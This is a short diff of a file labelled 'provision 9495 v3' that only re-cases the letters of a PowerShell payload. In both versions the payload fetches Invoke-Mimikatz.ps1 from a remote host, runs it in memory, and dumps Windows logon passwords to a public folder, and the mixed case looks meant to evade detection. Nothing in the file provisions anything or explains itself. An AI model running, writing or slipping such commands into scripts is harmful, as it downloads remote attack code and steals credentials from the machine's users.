@@ -1,3 +1,3 @@
-# pRoViSiOn 9495 V3
-IEx (neW-oBjeCT Net.WeBCliEnT).DoWnLoaDSTrING('http://192.0.2.44/Invoke-Mimikatz.ps1')
-INVoKe-mimIKatz -coMMand '"privilege::debug" "sekurlsa::logonpasswords"' | OuT-FiLe c:\uSeRs\pUbLiC\o.TxT
+# provision 9495 v3
+iEX (NeW-ObJeCt Net.wEbcLieNT).dOwNlOaDsTrInG('http://192.0.2.44/Invoke-Mimikatz.ps1')
+iNvOKe-MiMiKaTz -cOmMaNd '"privilege::debug" "sekurlsa::logonpasswords"' | OUT-FILe C:\UsErS\Public\O.Txt
